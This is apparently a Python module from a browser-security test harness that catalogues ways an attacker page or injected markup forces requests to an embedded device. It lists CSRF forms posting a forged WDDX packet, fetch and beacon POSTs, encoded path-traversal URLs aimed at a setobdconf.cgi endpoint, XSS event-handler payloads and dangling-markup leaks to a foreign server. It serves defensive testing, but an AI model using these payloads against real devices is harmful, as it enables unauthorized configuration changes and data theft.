"""By which an attacker's page, or an attacker's text in a page of the device, makes a browser ask: each way by its
name. {u} is the address that is asked, in scripts within single quotes; {c} one that permits it, {f} one of a foreign
server, {n} a number, {a} the attempt's name, {w} an order to the nVm service, {h} harm that can be seen."""

HARM = "document.title='harm'"
WDDX = (
    "<?xml version='1.0' encoding='UTF-8'?><!DOCTYPE wddxPacket SYSTEM "
    "'http://www.openwddx.org/downloads/dtd/wddx_dtd_10.txt'><wddxPacket version='1.0'><header/>"
    "<data><struct><var name='DeviceOwner'><string>EVIL</string></var>"
    "<var name='IfhClientIpAddr'><string>127.0.0.1</string></var></struct></data></wddxPacket>"
)


# --- What foreign pages try

def form(method, encoding, extra=""):
    fields = {"attempt": "{a}", "CanDetectTimeout": "evil", "allocation": "allocate"}
    if encoding == "text/plain":
        # It sends NAME=VALUE: a whole packet, cut at its first sign of that kind.
        fields = dict([WDDX.split("=", 1)])
    inputs = "".join(f'<input type=hidden name="{name}" value="{value}">' for name, value in fields.items())
    return (f"<form action='{{u}}' method={method} enctype='{encoding}' {extra}>{inputs}</form>"
            "<script>document.forms[0].submit()</script>")


def speculation(kind, more=""):
    rule = '{"source":"list","urls":["{u}"],"eagerness":"immediate"' + more + "}"
    return f'<script type=speculationrules>{{"{kind}":[{rule}]}}</script>'


# Parts of one page.
ELEMENTS = {
    "img": "<img src='{u}'>",
    "img-no-referrer": "<img referrerpolicy=no-referrer src='{u}'>",
    "img-anonymous": "<img crossorigin=anonymous src='{u}'>",
    "img-credentials": "<img crossorigin=use-credentials src='{u}'>",
    "srcset": "<img srcset='{u} 1x'>",
    "picture": "<picture><source srcset='{u}'><img></picture>",
    "input-image": "<input type=image src='{u}'>",
    "svg-image": "<svg><image href='{u}' width=9 height=9 /></svg>",
    "svg-feimage": "<svg width=9 height=9><filter id=f{n}><feImage href='{u}'/></filter><rect width=9 height=9 "
    "filter='url(#f{n})'/></svg>",
    "video": "<video src='{u}' preload=auto></video>",
    "poster": "<video poster='{u}'></video>",
    "audio": "<audio src='{u}' preload=auto></audio>",
    "source": "<video preload=auto><source src='{u}'></video>",
    "track": "<video crossorigin=anonymous src='{c}'><track default kind=captions src='{u}'></video>",
    "embed": "<embed src='{u}'>",
    "embed-svg": "<embed type=image/svg+xml src='{u}'>",
    "object": "<object data='{u}'></object>",
    "object-html": "<object type=text/html data='{u}'></object>",
    "iframe": "<iframe src='{u}'></iframe>",
    "iframe-sandbox": "<iframe sandbox src='{u}'></iframe>",
    "iframe-credentialless": "<iframe credentialless src='{u}'></iframe>",
    "script": "<script src='{u}'></script>",
    "script-module": "<script type=module src='{u}'></script>",
    "script-async": "<script async src='{u}'></script>",
    "stylesheet": "<link rel=stylesheet href='{u}'>",
    "stylesheet-alternate": "<link rel='alternate stylesheet' title=x{n} href='{u}'>",
    "preload-image": "<link rel=preload as=image href='{u}'>",
    "preload-script": "<link rel=preload as=script href='{u}'>",
    "preload-style": "<link rel=preload as=style href='{u}'>",
    "preload-font": "<link rel=preload as=font crossorigin href='{u}'>",
    "preload-fetch": "<link rel=preload as=fetch crossorigin href='{u}'>",
    "preload-track": "<link rel=preload as=track href='{u}'>",
    "modulepreload": "<link rel=modulepreload href='{u}'>",
    "prefetch": "<link rel=prefetch href='{u}'>",
    "prefetch-document": "<link rel=prefetch as=document href='{u}'>",
    "manifest": "<link rel=manifest href='{u}'>",
    "mask-icon": "<link rel=mask-icon href='{u}'>",
    "icon": "<link rel=icon href='{u}'>",
    "css-background": "<i style=\"display:block;width:9px;height:9px;background:url('{u}')\"></i>",
    "css-content": "<i style=\"content:url('{u}')\">x</i>",
    "css-list": "<li style=\"list-style-image:url('{u}')\">x",
    "css-border": "<i style=\"border:9px solid;border-image:url('{u}') 9\">x</i>",
    "css-mask": "<i style=\"display:block;width:9px;height:9px;mask-image:url('{u}')\">x</i>",
    "css-image-set": "<i style=\"display:block;width:9px;height:9px;background-image:image-set('{u}' 1x)\">x</i>",
    "css-shape": "<i style=\"float:left;shape-outside:url('{u}')\">x</i>",
    "css-filter": "<i style=\"display:block;width:9px;height:9px;filter:url('{u}#f')\">x</i>",
    "css-import": "<style>@import '{u}';</style>",
    "css-font": "<style>@font-face{font-family:f{n};src:url('{u}')}</style><p style='font-family:f{n}'>x</p>",
    "body-background": "<table background='{u}'><tr><td>x</table>",
    "svg-script": "<svg><script href='{u}'></script></svg>",
    "svg-use": "<svg><use href='{u}#x'/></svg>",
    "speculation-prefetch": speculation("prefetch"),
    "speculation-prefetch-no-referrer": speculation("prefetch", ',"referrer_policy":"no-referrer"'),
    "speculation-prerender": speculation("prerender"),
    "ping": "<a ping='{u}' href='#'>x</a><script>document.currentScript.previousSibling.click()</script>",
    "attribution": "<img attributionsrc='{u}'>",
    "portal": "<portal src='{u}'></portal>",
    "fencedframe": "<fencedframe src='{u}'></fencedframe>",
    "link-prerender": "<link rel=prerender href='{u}'>",
    "preconnect": "<link rel=preconnect href='{u}'>",
    "dns-prefetch": "<link rel=dns-prefetch href='{u}'>",
}
# Each a script of its own: what fails hinders no other.
SCRIPTS = {
    "fetch": "fetch('{u}')",
    "fetch-no-cors": "fetch('{u}',{mode:'no-cors'})",
    "fetch-no-referrer": "fetch('{u}',{mode:'no-cors',referrerPolicy:'no-referrer'})",
    "fetch-include": "fetch('{u}',{mode:'no-cors',credentials:'include'})",
    "fetch-keepalive": "fetch('{u}',{mode:'no-cors',keepalive:true})",
    "fetch-head": "fetch('{u}',{mode:'no-cors',method:'HEAD'})",
    "fetch-put": "fetch('{u}',{method:'PUT',body:'x'})",
    "fetch-header": "fetch('{u}',{headers:{'X-Evil':'1'}})",
    "fetch-post-text": "fetch('{u}',{mode:'no-cors',method:'POST',body:'{w}'})",
    "fetch-post-cors": "fetch('{u}',{method:'POST',body:'{w}'})",
    "fetch-post-urlencoded": "fetch('{u}',{mode:'no-cors',method:'POST',body:new URLSearchParams("
    "'CanDetectTimeout=evil&allocation=allocate')})",
    "fetch-post-form": "{let f=new FormData();f.append('CanDetectTimeout','evil');f.append('allocation','allocate');"
    "fetch('{u}',{mode:'no-cors',method:'POST',body:f})}",
    "fetch-get-window-cookieless": "fetch('{u}',{mode:'no-cors',credentials:'omit',cache:'no-store'})",
    "fetch-later": "fetchLater('{u}',{activateAfter:0})",
    "xhr": "{let x=new XMLHttpRequest();x.open('GET','{u}');x.send()}",
    "xhr-post": "{let x=new XMLHttpRequest();x.open('POST','{u}');x.send('{w}')}",
    "xhr-sync": "{let x=new XMLHttpRequest();x.open('GET','{u}',false);x.send()}",
    "beacon": "navigator.sendBeacon('{u}','{w}')",
    "beacon-form": "navigator.sendBeacon('{u}',new URLSearchParams('CanDetectTimeout=evil&allocation=allocate'))",
    "beacon-empty": "navigator.sendBeacon('{u}')",
    "eventsource": "new EventSource('{u}')",
    "websocket": "new WebSocket('{u}'.replace('http','ws'))",
    "worker": "new Worker('{u}')",
    "worker-import": "new Worker(URL.createObjectURL(new Blob([`importScripts('{u}')`])))",
    "worker-fetch": "new Worker(URL.createObjectURL(new Blob([`fetch('{u}',{mode:'no-cors'})`])))",
    "worker-websocket": "new Worker(URL.createObjectURL(new Blob([`new WebSocket('{u}'.replace('http','ws'))`])))",
    "worker-module": "new Worker(URL.createObjectURL(new Blob([`import '{u}'`],{type:'text/javascript'})),"
    "{type:'module'})",
    "dynamic-import": "import('{u}')",
    "worklet": "CSS.paintWorklet.addModule('{u}')",
    "audio-worklet": "new OfflineAudioContext(1,9,44100).audioWorklet.addModule('{u}')",
    "font-face": "new FontFace('g{n}','url({u})').load()",
    "image-object": "new Image().src='{u}'",
    "audio-object": "new Audio('{u}').load()",
    "turn": "{let c=new RTCPeerConnection({iceServers:[{urls:'turn:'+new URL('{u}').host+'?transport=tcp',"
    "username:'x',credential:'x'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))}",
}
PARTS = {**ELEMENTS, **{name: f"<script>{text}</script>" for name, text in SCRIPTS.items()}}

# Documents of their own. They are tried in a frame, and as a page.
DOCUMENTS = {
    "location": "<script>location='{u}'</script>",
    "location-replace": "<script>location.replace('{u}')</script>",
    "location-no-referrer": "<meta name=referrer content=no-referrer><script>location='{u}'</script>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url={u}'>",
    "click": "<a href='{u}'>x</a><script>document.links[0].click()</script>",
    "click-no-referrer": "<a rel=noreferrer href='{u}'>x</a><script>document.links[0].click()</script>",
    "download": "<a download href='{u}'>x</a><script>document.links[0].click()</script>",
    "navigation": "<script>navigation.navigate('{u}')</script>",
    "body-background": "<body background='{u}'>x",
    "frameset": "<frameset cols=*><frame src='{u}'></frameset>",
    "form-get": form("get", ""),
    "form-post": form("post", ""),
    "form-multipart": form("post", "multipart/form-data"),
    "form-text": form("post", "text/plain"),
    "form-no-referrer": form("post", "", "rel=noreferrer"),
    "form-text-no-referrer": "<meta name=referrer content=no-referrer>" + form("post", "text/plain"),
}
# Only as a page: a frame may not open windows here.
PAGES = {
    "window-open": "<script>open('{u}')</script>",
    "window-open-no-referrer": "<script>open('{u}','_blank','noopener,noreferrer')</script>",
    "click-blank": "<a target=_blank href='{u}'>x</a><script>document.links[0].click()</script>",
    "form-blank": form("post", "text/plain", "target=_blank"),
}
# Answers of the foreign server, as a page, in a frame and as a picture.
ANSWERS = {
    **{f"redirect-{status}": (status, "Location", "{u}") for status in (301, 302, 303, 307, 308)},
    "refresh-header": (200, "Refresh", "0;url={u}"),
    "link-header": (200, "Link", "<{u}>; rel=preload; as=image"),
    "link-header-style": (200, "Link", "<{u}>; rel=preload; as=style"),
    "csp-report": (200, "Content-Security-Policy", "img-src 'none'; report-uri {u}"),
}

# What the browser itself does not send, on the canary neither: for want of a right, of a feature, or
# because the address needs https. They are tried all the same.
UNSENT = {
    "attribution", "audio-worklet", "css-filter", "dns-prefetch", "fencedframe", "fetch-later",
    "icon", "link-prerender", "manifest", "mask-icon", "portal", "preconnect", "svg-use", "turn",
    "worker",
}
# What loopback is enough for.
UNSENT_BY_HTTP = {"speculation-prefetch", "speculation-prefetch-no-referrer", "worklet"}


def filled(template, **values):
    """With what the letters stand for."""
    for name, value in {**values, "w": WDDX.replace("'", "\\'"), "h": HARM}.items():
        template = template.replace("{" + name + "}", str(value))
    return template


# --- What the page is made to echo: it asks the device itself for a change, or a foreign server

MARKUP = {
    **{f"part-{name}": text.replace("{c}", "/images/tarn.gif") for name, text in ELEMENTS.items()
       if "<script>" not in text},
    "meta-refresh": "<meta http-equiv=refresh content='0;url={u}'>",
    "meta-refresh-quoted": "<meta http-equiv=\"refresh\" content=\"0; URL='{u}'\">",
    "base": "<base href='{f}/'><img src=x.gif>",
    "base-target": "<base target=_top><img src='{u}'>",
    "iframe-srcdoc": "<iframe srcdoc=\"<img src='{u}'><script>parent.{h}</script>\"></iframe>",
    "iframe-javascript": '<iframe src="javascript:parent.{h}"></iframe>',
    "iframe-data": "<iframe src=\"data:text/html,<script>parent.{h}</script><img src='{u}'>\"></iframe>",
    "object-data": "<object data=\"data:text/html,<img src='{u}'>\"></object>",
    "embed-javascript": '<embed src="javascript:{h}">',
    "script-inline": "<script>{h}</script>",
    "script-fetch": "<script>fetch('{u}')</script>",
    "script-module-inline": "<script type=module>{h}</script>",
    "script-data": '<script src="data:text/javascript,{h}"></script>',
    "svg-onload": '<svg onload="{h}"></svg>',
    "svg-script-inline": "<svg><script>{h}</script></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values='{u}' begin=0s /></a></svg>",
    "svg-set-image": "<svg><image width=9 height=9><set attributeName=href to='{u}'/></image></svg>",
    "svg-onbegin": '<svg><animate onbegin="{h}" attributeName=x dur=1s></svg>',
    "svg-foreignobject": "<svg><foreignObject><img src='{u}'/></foreignObject></svg>",
    "svg-cursor": "<svg><rect width=9 height=9 style=\"cursor:url('{u}'),auto\"/></svg>",
    "svg-style": "<svg><style>@import '{u}';</style></svg>",
    "svg-pattern": "<svg width=9 height=9><pattern id=p width=9 height=9><image href='{u}' width=9 height=9 />"
    "</pattern><rect width=9 height=9 fill='url(#p)'/></svg>",
    "svg-xlink": "<svg><image xlink:href='{u}' width=9 height=9 /></svg>",
    "img-onerror": "<img src='/images/nowhere.gif' onerror=\"{h}\">",
    "img-onload": "<img src='/images/tarn.gif' onload=\"{h}\">",
    # A folder that leads on: web servers decode it.
    "img-encoded-folder": "<img src='/images/..%2fsetobdconf.cgi?CanDetectTimeout=evil'><img "
    "src='/images/..%2Fsetobdconf.cgi?CanDetectTimeout=evil'>",
    "style-encoded-folder": "<link rel=stylesheet href='/css/..%2fsetobdconf.cgi?CanDetectTimeout=evil'>",
    "img-lazy": "<img loading=lazy src='{u}'>",
    "img-nested": "<p><div><img src='{u}'></div></p>",
    "body-onload": '<body onload="{h}">',
    "body-background": "<body background='{u}'>",
    "details-ontoggle": '<details open ontoggle="{h}">x</details>',
    "input-autofocus": '<input autofocus onfocus="{h}">',
    "video-onerror": '<video src=x onerror="{h}"></video>',
    "marquee-onstart": '<marquee onstart="{h}">x</marquee>',
    "style-animation": "<style>@keyframes k{}</style><i style='animation:k' onanimationstart=\"{h}\">x</i>",
    "style-hidden": "<style>h2{display:none}</style>",
    "style-attribute": "<i style=\"position:fixed;inset:0;background:url('{u}')\">x</i>",
    "style-import": "<style>@import url('{f}');</style>",
    "form-autofocus": "<form action='{u}' id=z></form><button form=z autofocus>x</button>",
    "form-formaction": "<form><button formaction='{u}' autofocus>x</button></form>",
    "meta-csp": "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src='{f}'>",
    "meta-csp-report": "<meta http-equiv=Content-Security-Policy-Report-Only content=\"img-src 'none'; report-uri "
    '{u}">',
    "meta-referrer": "<meta name=referrer content=no-referrer><img src='{u}'>",
    "meta-cookie": "<meta http-equiv=set-cookie content='evil=1'>",
    "template-shadow": "<div><template shadowrootmode=open><img src='{u}'></template></div>",
    "noscript": "<noscript><img src='{u}'></noscript>",
    "math": "<math><mtext><img src='{u}'></mtext></math>",
    "dangling-img": "<img src='{f}?",
    "dangling-textarea": "<form action='{f}'><textarea name=x>",
    "plaintext": "<img src='{u}'><plaintext>",
    "comment": "<!-- --!><img src='{u}'>",
    "close-all": "</p></div></body></html><img src='{u}'>",
    "popover": '<div popover id=v onbeforetoggle="{h}">x</div>',
    "dialog": "<dialog open><img src='{u}'></dialog>",
    "xmp": "<xmp></xmp><img src='{u}'>",
    "rare-elements": "<bgsound src='{u}'><image src='{u}'><isindex action='{u}'>",
    "applet": "<applet code=x archive='{u}'></applet>",
    "frameset": "</p></div><frameset><frame src='{u}'></frameset>",
    "importmap": '<script type=importmap>{"imports":{"x":"{u}"}}</script>',
    "html-manifest": "<html manifest='{u}'>",
    "select": "<select><selectedcontent></select><img src='{u}'>",
    "picture-media": "<picture><source media='(min-width:1px)' srcset='{u}'><img></picture>",
    "svg-mpath": "<svg><mask id=m><image href='{u}' width=9 height=9 /></mask><rect width=9 height=9 mask='url(#m)'/>"
    "</svg>",
}
